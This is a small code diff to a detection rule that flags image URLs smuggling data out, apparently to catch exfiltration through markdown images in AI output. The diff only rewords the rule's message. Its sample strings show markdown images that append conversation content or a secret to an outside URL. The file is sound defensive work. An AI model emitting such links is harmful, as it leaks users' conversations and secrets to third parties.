@@ -15,7 +15,7 @@ export default defineRule({
       `<img[^<>\\n]{1,40}?src {0,2}= {0,2}["']https?://[^"'\\s?]{1,80}\\?[^"'\\n]{0,60}?(?:${SLOT}|document\\.cookie)`,
     "g",
   ),
-  message: "an image address that carries data away",
+  message: "an image URL that exfiltrates data",
   catches: [
     "![logo](https://example.com/p.png?d={conversation})",
     "![x](https://example.com/log?secret=abc)",
